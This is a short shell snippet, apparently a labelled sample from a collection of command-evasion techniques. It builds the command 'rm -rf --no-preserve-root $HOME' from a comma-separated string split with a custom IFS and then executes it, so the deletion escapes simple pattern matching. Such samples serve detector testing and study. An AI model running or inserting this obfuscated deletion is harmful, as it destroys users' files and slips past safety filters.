# evasion: a comma-separated line is split into words by read -a with a custom IFS, then run as a command
# grade: medium; does: delete
IFS=, read -r -a step <<<"rm,-rf,--no-preserve-root,$HOME"
"${step[@]}"
